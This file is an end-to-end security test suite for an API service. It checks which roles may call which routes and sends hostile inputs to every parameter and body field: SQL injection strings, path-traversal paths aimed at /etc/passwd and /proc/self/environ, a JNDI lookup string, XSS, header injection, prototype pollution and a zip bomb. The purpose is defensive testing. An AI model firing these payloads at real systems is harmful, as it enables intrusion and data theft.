import { deflateSync } from 'node:zlib';

import request from 'supertest';

import { apiCall } from '../support/api-call.fixture';
import { useEmbeddedServer } from '../support/embedded-server.fixture';

const ADMIN = 'e2e-security-admin-key-0123456789';
const bearer = (key: string) => ({ Authorization: `Bearer ${key}` });

type Principal =
  | 'none'
  | 'viewer'
  | 'ingest'
  | 'admin'
  | 'expired'
  | 'revoked'
  | 'wrong-secret'
  | 'unknown-id'
  | 'malformed';
type Role = 'viewer' | 'ingest' | 'admin';

/**
 * Who may call what, written out here rather than read from the code or the document, so a wrong
 * @Roles is caught. `public`: no key needed. Admin-only routes answer other roles 404.
 */
/** apiCall() talks to this host: its OpenAPI export exists. */
const SERVICE_WITH_TRAFFIC = 'api.example.com';
const MINIMAL_SPEC = JSON.stringify({ openapi: '3.0.3', info: { title: 'matrix', version: '1' }, paths: {} });

const ACCESS: Record<string, Role[] | 'public'> = {
  'GET /healthz': 'public',
  'POST /api/v1/ingest': ['ingest', 'admin'],
  'GET /api/v1/inventory': ['viewer', 'admin'],
  'GET /api/v1/endpoints': ['viewer', 'admin'],
  'GET /api/v1/endpoints/{id}': ['viewer', 'admin'],
  'GET /api/v1/endpoints/{id}/calls': ['viewer', 'admin'],
  'GET /api/v1/findings': ['viewer', 'admin'],
  'GET /api/v1/services': ['viewer', 'admin'],
  'GET /api/v1/stats/calls': ['viewer', 'admin'],
  'GET /api/docs/openapi.json': ['viewer', 'admin'],
  'GET /api/v1/dead-letters': ['admin'],
  'GET /metrics': ['admin'],
  'GET /api/v1/keys': ['admin'],
  'POST /api/v1/keys': ['admin'],
  'DELETE /api/v1/keys/{id}': ['admin'],
  'GET /api/v1/audit': ['admin'],
  'GET /api/v1/specs': ['viewer', 'admin'],
  'POST /api/v1/specs': ['admin'],
  'GET /api/v1/changes': ['viewer', 'admin'],
  'GET /api/v1/services/{service}/openapi': ['viewer', 'admin'],
  'GET /api/v1/services/{service}/drift': ['viewer', 'admin'],
  'GET /api/v1/services/{service}/templates': ['viewer', 'admin'],
  'POST /api/v1/services/{service}/templates': ['admin'],
};

const SQLISH = [
  "' OR 1=1 --",
  '"; DROP TABLE calls; --',
  "') UNION SELECT secret_hash FROM apiscope.api_keys --",
  '1; SELECT * FROM system.users',
  '{service:String}',
  "\\'; SELECT sleep(3); --",
  "admin'--",
  '1 AND (SELECT count() FROM system.tables) > 0',
];
const TRAVERSALISH = [
  '../../etc/passwd',
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '....//....//etc/passwd',
  '/%2e%2e/%2e%2e/etc/shadow',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  '/proc/self/environ',
];
const OTHER = [
  'a\u0000b',
  'line\r\nX-Injected: 1',
  '<script>alert(1)</script>',
  '${jndi:ldap://x.example/a}',
  '-1',
  '1e309',
  'NaN',
  '\u202Eevil',
  'x'.repeat(9000),
  '__proto__',
  '%',
];
const HOSTILE = [...SQLISH, ...TRAVERSALISH, ...OTHER];

/** Nothing internal may leave in an answer: stack frames, ClickHouse errors, file paths, secrets. */
const LEAK =
  /\bat [\w.<>]+ \(|\.ts:\d+|DB::Exception|Code: \d+\.|node_modules|\/work\/|\/tmp\/|scrypt\$|e2e-security-admin-key/;

describe('API security: every role on every route, hostile inputs everywhere (embedded, real HTTP)', () => {
  const server = useEmbeddedServer('security-e2e', {
    apiKey: ADMIN,
    // limits out of the way here: api-limits.e2e-spec tests them; this suite sends thousands of bad keys
    api: {
      rateLimitPerKey: 1e6,
      rateLimitPerIp: 1e6,
      failedAuthPerIp: 1e6,
      ingestBodyLimitBytes: 1024 * 1024,
    },
  });
  const keys = {} as Record<Principal, string | undefined>;
  let endpointId: string;
  let throwawayKeyId: string;
  let roleCases = 0;
  const outcomes = { cases: 0, '2xx': 0, '4xx': 0, '5xx': 0, byStatus: new Map<number, number>() };

  const count = (status: number) => {
    outcomes.cases += 1;
    outcomes.byStatus.set(status, (outcomes.byStatus.get(status) ?? 0) + 1);
    if (status >= 500) outcomes['5xx'] += 1;
    else if (status >= 400) outcomes['4xx'] += 1;
    else outcomes['2xx'] += 1;
  };

  beforeAll(async () => {
    const create = async (role: Role, expiresAt?: string) => {
      const res = await request(server.url)
        .post('/api/v1/keys')
        .set(bearer(ADMIN))
        .send({ name: `${role}-matrix`, role, ...(expiresAt && { expiresAt }) })
        .expect(201);
      return res.body as { id: string; key: string };
    };
    keys.none = undefined;
    keys.admin = ADMIN;
    keys.viewer = (await create('viewer')).key;
    keys.ingest = (await create('ingest')).key;
    const expiring = await create('viewer', new Date(Date.now() + 1000).toISOString());
    keys.expired = expiring.key;
    const revoked = await create('admin');
    await request(server.url).delete(`/api/v1/keys/${revoked.id}`).set(bearer(ADMIN)).expect(200);
    keys.revoked = revoked.key;
    keys['wrong-secret'] = `aps_${revoked.id}_${'W'.repeat(43)}`;
    keys['unknown-id'] = `aps_ffffffffffff_${'U'.repeat(43)}`;
    keys.malformed = 'not-a-key';
    throwawayKeyId = (await create('viewer')).id;
    await request(server.url)
      .post('/api/v1/ingest')
      .set(bearer(ADMIN))
      .send({ calls: [apiCall(), apiCall({ path: '/users/9', target: '/users/9' })] })
      .expect(200);
    // the drift route answers for a service with a reference spec (an empty one documents nothing)
    await request(server.url)
      .post('/api/v1/specs')
      .set(bearer(ADMIN))
      .send({ service: SERVICE_WITH_TRAFFIC, document: MINIMAL_SPEC })
      .expect(201);
    const list = await request(server.url).get('/api/v1/endpoints').set(bearer(ADMIN)).expect(200);
    endpointId = list.body.items[0].id;
    await new Promise((r) => setTimeout(r, 1100)); // let the expiring key expire
  });

  afterAll(() => {
    const byStatus = [...outcomes.byStatus]
      .sort(([a], [b]) => a - b)
      .map(([s, n]) => `${s}: ${n}`)
      .join(', ');
    console.log(
      `role x route cases: ${roleCases}; hostile cases tried: ${outcomes.cases}; outcomes: ${outcomes['4xx']} x 4xx, ` +
        `${outcomes['2xx']} x 2xx (valid plain data: a free-text filter that matched nothing, a key name stored verbatim, ` +
        `an ignored override header), ${outcomes['5xx']} x 5xx; by status: ${byStatus}`,
    );
  });

  const pathOf = (route: string) =>
    route
      .split(' ')[1]
      .replace('/endpoints/{id}', `/endpoints/${endpointId}`)
      .replace('/keys/{id}', `/keys/${throwawayKeyId}`)
      .replace('/services/{service}/', `/services/${SERVICE_WITH_TRAFFIC}/`);
  const bodyOf = (route: string): object | undefined =>
    route === 'POST /api/v1/ingest'
      ? { calls: [] }
      : route === 'POST /api/v1/keys'
        ? { name: 'matrix', role: 'viewer' }
        : route === 'POST /api/v1/specs'
          ? { service: 'matrix.test', document: MINIMAL_SPEC }
          : route === 'POST /api/v1/services/{service}/templates'
            ? { action: 'pin', template: '/users/{userId}' }
            : undefined;
  const send = (method: string, path: string, key: string | undefined, body?: object | string) => {
    let req = request(server.url)[method.toLowerCase() as 'get'](path);
    if (key !== undefined) req = req.set(bearer(key));
    if (body !== undefined) req = req.set('content-type', 'application/json').send(body);
    return req;
  };

  it('should cover every documented operation in the access table', async () => {
    const doc = await request(server.url).get('/api/docs/openapi.json').set(bearer(ADMIN)).expect(200);
    const documented = Object.entries(doc.body.paths as Record<string, object>).flatMap(([path, ops]) =>
      Object.keys(ops).map((m) => `${m.toUpperCase()} ${path}`),
    );
    expect(documented.sort()).toEqual(Object.keys(ACCESS).sort());
  });

  const principals: Principal[] = [
    'none',
    'viewer',
    'ingest',
    'admin',
    'expired',
    'revoked',
    'wrong-secret',
    'unknown-id',
    'malformed',
  ];
  it.each(Object.keys(ACCESS).flatMap((route) => principals.map((p) => [route, p] as const)))(
    'should answer %s for %s as the access table says',
    async (route, principal) => {
      const access = ACCESS[route];
      const method = route.split(' ')[0];
      const res = await send(method, pathOf(route), keys[principal], bodyOf(route));
      roleCases += 1;
      const ok =
        method === 'POST' &&
        (route.endsWith('/keys') || route.endsWith('/specs') || route.endsWith('/templates'))
          ? 201
          : 200;
      let expected: number;
      if (['expired', 'revoked', 'wrong-secret', 'unknown-id', 'malformed'].includes(principal))
        expected = 401;
      else if (access === 'public') expected = ok;
      else if (principal === 'none') expected = 401;
      else if (access.includes(principal as Role)) expected = ok;
      else expected = access.every((r) => r === 'admin') ? 404 : 403;
      expect({ route, principal, status: res.status }).toEqual({ route, principal, status: expected });
      if (expected >= 400) {
        expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
        expect(res.body.type).toMatch(/^https:\/\/apiscope\.dev\/problems\//);
      }
      if (principal === 'expired') expect(res.body.detail).toBe('API key expired');
      if (principal === 'revoked') expect(res.body.detail).toBe('API key revoked');
    },
  );

  /** Every query parameter of every route, every hostile value; path ids too. */
  const parameterCases = (doc: {
    paths: Record<string, Record<string, { parameters?: Array<{ name: string; in: string }> }>>;
  }) =>
    Object.entries(doc.paths).flatMap(([path, ops]) =>
      Object.entries(ops).flatMap(([method, op]) =>
        (op.parameters ?? []).flatMap((p) =>
          HOSTILE.map((value) => ({ method: method.toUpperCase(), path, param: p, value })),
        ),
      ),
    );

  it('should answer hostile values in every parameter with a 4xx, or as a plain value matching nothing, never a 5xx', async () => {
    const doc = await request(server.url).get('/api/docs/openapi.json').set(bearer(ADMIN)).expect(200);
    const inventoryBefore = await request(server.url).get('/api/v1/inventory').set(bearer(ADMIN)).expect(200);
    const keysBefore = await request(server.url).get('/api/v1/keys?limit=500').set(bearer(ADMIN)).expect(200);
    const cases = parameterCases(doc.body);
    expect(cases.length).toBeGreaterThan(400);
    const unexpected: string[] = [];
    for (const c of cases) {
      let path = pathOf(`${c.method} ${c.path}`);
      let query: Record<string, string> = {};
      if (c.param.in === 'path') path = c.path.replace(`{${c.param.name}}`, encodeURIComponent(c.value));
      else query = { [c.param.name]: c.value };
      const res = await send(c.method, path, ADMIN, bodyOf(`${c.method} ${c.path}`)).query(query);
      count(res.status);
      const text = JSON.stringify(res.body) + (res.text ?? '');
      if (res.status >= 500 || LEAK.test(text))
        unexpected.push(
          `${c.method} ${c.path} ${c.param.name}=${JSON.stringify(c.value.slice(0, 40))} -> ${res.status} ${text.slice(0, 200)}`,
        );
      if (res.status >= 400 && !/^application\/problem\+json/.test(String(res.headers['content-type'])))
        unexpected.push(`${c.method} ${c.path} ${c.param.name}: ${res.status} not problem+json`);
      // a 2xx is only acceptable where the parameter is free text: the value was data, it matched nothing
      if (res.status < 400 && c.method === 'GET' && c.path !== '/healthz') {
        const items = (res.body.items ?? res.body.services ?? res.body.corrections) as unknown[] | undefined;
        // a correction this loop itself stored (POST before GET) under the hostile name, verbatim, is plain data
        const ownWrite =
          c.path.endsWith('/templates') &&
          (items ?? []).every((i) => (i as { service?: string }).service === c.value);
        if (!items || (items.length !== 0 && !ownWrite))
          unexpected.push(
            `${c.method} ${c.path} ${c.param.name}=${JSON.stringify(c.value.slice(0, 40))} -> ${res.status} with data`,
          );
      }
    }
    expect(unexpected).toEqual([]);
    // and nothing changed: same inventory, no key created or revoked
    const inventoryAfter = await request(server.url).get('/api/v1/inventory').set(bearer(ADMIN)).expect(200);
    expect(inventoryAfter.body).toEqual(inventoryBefore.body);
    const keysAfter = await request(server.url).get('/api/v1/keys?limit=500').set(bearer(ADMIN)).expect(200);
    expect(keysAfter.body.items.length).toBe(
      keysBefore.body.items.length +
        cases.filter((c) => c.method === 'POST' && c.path === '/api/v1/keys' && false).length,
    );
  }, 180_000); // ~1,400 requests one after another: minutes on a loaded 2-core machine

  const BODY_FIELDS: Record<string, string[]> = {
    'POST /api/v1/keys': ['name', 'role', 'expiresAt'],
    'POST /api/v1/ingest': ['calls'],
  };

  /** Values a field accepts as they are (a key name may legitimately read "NaN" or "file:///x"). */
  const ACCEPTED: Record<string, (value: unknown) => boolean> = {
    'POST /api/v1/keys name': (v) =>
      typeof v === 'string' && /^[\p{L}\p{N}][\p{L}\p{N} ._@:/+-]{0,63}$/u.test(v),
    'POST /api/v1/ingest calls': (v) => Array.isArray(v) && v.length === 0,
  };

  it('should answer hostile values in every body field with a 4xx, or store them as plain data', async () => {
    const keysBefore = await request(server.url).get('/api/v1/keys?limit=500').set(bearer(ADMIN)).expect(200);
    const unexpected: string[] = [];
    let created = 0;
    for (const [route, fields] of Object.entries(BODY_FIELDS)) {
      for (const field of fields)
        for (const value of [...HOSTILE, 12, true, null, [], {}, [HOSTILE[0]], { $gt: '' }] as unknown[]) {
          const body = { ...(bodyOf(route) as object), [field]: value };
          const res = await send('POST', pathOf(route), ADMIN, body);
          count(res.status);
          const accepted = ACCEPTED[`${route} ${field}`]?.(value) === true;
          if (res.status >= 500 || LEAK.test(res.text) || res.status < 400 !== accepted)
            unexpected.push(
              `${route} ${field}=${JSON.stringify(value).slice(0, 40)} -> ${res.status} ${res.text.slice(0, 160)}`,
            );
          if (route === 'POST /api/v1/keys' && res.status === 201) {
            created += 1;
            expect(res.body.name).toBe(value); // kept verbatim, never interpreted
            expect(res.body.role).toBe('viewer');
          }
        }
    }
    expect(unexpected).toEqual([]);
    const keysAfter = await request(server.url).get('/api/v1/keys?limit=500').set(bearer(ADMIN)).expect(200);
    expect(keysAfter.body.items.length).toBe(keysBefore.body.items.length + created);
    // the only admin key is the one revoked in beforeAll: no hostile body made one
    expect(
      keysAfter.body.items.filter(
        (k: { role: string; status: string }) => k.role === 'admin' && k.status !== 'revoked',
      ),
    ).toEqual([]);
  });

  const deep = (n: number) => `{"name":${'['.repeat(n)}${']'.repeat(n)},"role":"viewer"}`;

  it.each([
    ['truncated JSON', 'application/json', '{"name": "x", "role": '],
    ['not JSON at all', 'application/json', 'name=x&role=admin'],
    ['a JSON string', 'application/json', '"admin"'],
    ['JSON null', 'application/json', 'null'],
    ['an array', 'application/json', '[{"name":"x","role":"admin"}]'],
    ['a deeply nested value', 'application/json', deep(5000)],
    [
      'duplicate keys smuggling a role',
      'application/json',
      '{"name":"x","role":"viewer","role":"superadmin"}',
    ],
    ['a form body', 'application/x-www-form-urlencoded', 'name=x&role=admin'],
    ['text/plain JSON', 'text/plain', '{"name":"x","role":"admin"}'],
    [
      'a multipart body',
      'multipart/form-data; boundary=b',
      '--b\r\nContent-Disposition: form-data; name="name"\r\n\r\nx\r\n--b--',
    ],
    ['XML', 'application/xml', '<key><name>x</name><role>admin</role></key>'],
    ['an unknown charset', 'application/json; charset=ebcdic', '{"name":"x","role":"viewer"}'],
    ['prototype pollution', 'application/json', '{"name":"x","role":"viewer","__proto__":{"role":"admin"}}'],
    [
      'constructor pollution',
      'application/json',
      '{"name":"x","role":"viewer","constructor":{"prototype":{"role":"admin"}}}',
    ],
    [
      'an oversize body',
      'application/json',
      JSON.stringify({ name: 'x', role: 'viewer', pad: 'p'.repeat(20_000) }),
    ],
  ])('should refuse %s on POST /api/v1/keys with a 4xx problem', async (_name, type, body) => {
    const res = await request(server.url)
      .post('/api/v1/keys')
      .set(bearer(ADMIN))
      .set('content-type', type)
      .send(body);
    count(res.status);
    expect(res.status).toBeGreaterThanOrEqual(400);
    expect(res.status).toBeLessThan(500);
    expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(res.text).not.toMatch(LEAK);
    expect(res.text).not.toContain('superadmin');
    expect(({} as Record<string, unknown>)['role']).toBeUndefined();
  });

  it.each([
    ['truncated JSON', '{"calls": [{"v":1'],
    ['calls not an array', '{"calls": {"0": {}}}'],
    ['a deeply nested call', `{"calls": [${'['.repeat(20000)}${']'.repeat(20000)}]}`],
    ['a top-level __proto__', '{"calls": [], "__proto__": {"x": 1}}'],
    ['an oversize body', JSON.stringify({ calls: [{ pad: 'p'.repeat(1100 * 1024) }] })],
  ])('should refuse %s on POST /api/v1/ingest with a 4xx problem', async (_name, body) => {
    const res = await request(server.url)
      .post('/api/v1/ingest')
      .set(bearer(ADMIN))
      .set('content-type', 'application/json')
      .send(body);
    count(res.status);
    expect(res.status).toBeGreaterThanOrEqual(400);
    expect(res.status).toBeLessThan(500);
    expect(res.text).not.toMatch(LEAK);
  });

  it('should refuse a compressed body that inflates past the limit (zip bomb) with 413', async () => {
    const bomb = deflateSync(
      Buffer.from(JSON.stringify({ name: 'x', role: 'viewer', pad: '0'.repeat(5_000_000) })),
    );
    expect(bomb.length).toBeLessThan(16 * 1024);
    const res = await fetch(`${server.url}/api/v1/keys`, {
      method: 'POST',
      headers: { ...bearer(ADMIN), 'content-type': 'application/json', 'content-encoding': 'deflate' },
      body: bomb,
    });
    count(res.status);
    expect(res.status).toBe(413);
    expect(((await res.json()) as { type: string }).type).toBe(
      'https://apiscope.dev/problems/payload-too-large',
    );
  });

  it.each([
    ['a quote in the bearer token', "Bearer ' OR 1=1 --"],
    ['a key with SQL in the id', `Bearer aps_${"'".repeat(12)}_${'A'.repeat(43)}`],
    ['a basic credential', 'Basic YWRtaW46YWRtaW4='],
    ['two bearer tokens', `Bearer ${ADMIN} Bearer ${ADMIN}`],
    ['an empty bearer', 'Bearer '],
    ['a very long token', `Bearer ${'A'.repeat(4000)}`],
    ['a lower-case scheme with the admin key and junk', `bearer ${ADMIN}x`],
  ])('should answer %s with 401', async (_name, header) => {
    const res = await request(server.url).get('/api/v1/services').set('Authorization', header);
    count(res.status);
    expect(res.status).toBe(401);
    expect(res.text).not.toMatch(LEAK);
  });

  it.each([
    ['/api/v1/../v1/keys'],
    ['/api/v1/%2e%2e/%2e%2e/etc/passwd'],
    ['/api/v1/endpoints/%E0%A4%A'],
    ['/api/v1/keys/%00'],
    ['/api//v1//services'],
    ['/API/V1/SERVICES'],
    ['/api/v1/services;drop'],
    ['/.env'],
    ['/api/docs/../../../../etc/passwd'],
  ])('should answer a hostile path %s without a key with a 4xx, never data', async (path) => {
    const res = await request(server.url).get(path);
    count(res.status);
    expect(res.status).toBeGreaterThanOrEqual(400);
    expect(res.status).toBeLessThan(500);
    expect(res.text).not.toMatch(LEAK);
  });

  it('should ignore method-override headers', async () => {
    const fresh = await request(server.url)
      .post('/api/v1/keys')
      .set(bearer(ADMIN))
      .send({ name: 'override', role: 'viewer' })
      .expect(201);
    const res = await request(server.url)
      .get(`/api/v1/keys?limit=1`)
      .set(bearer(ADMIN))
      .set('X-HTTP-Method-Override', 'DELETE')
      .set('X-Method-Override', 'DELETE');
    count(res.status);
    expect(res.status).toBe(200);
    const still = await request(server.url)
      .get(`/api/v1/keys?status=revoked&limit=500`)
      .set(bearer(ADMIN))
      .expect(200);
    expect(still.body.items.map((k: { id: string }) => k.id)).not.toContain(fresh.body.id);
  });
});
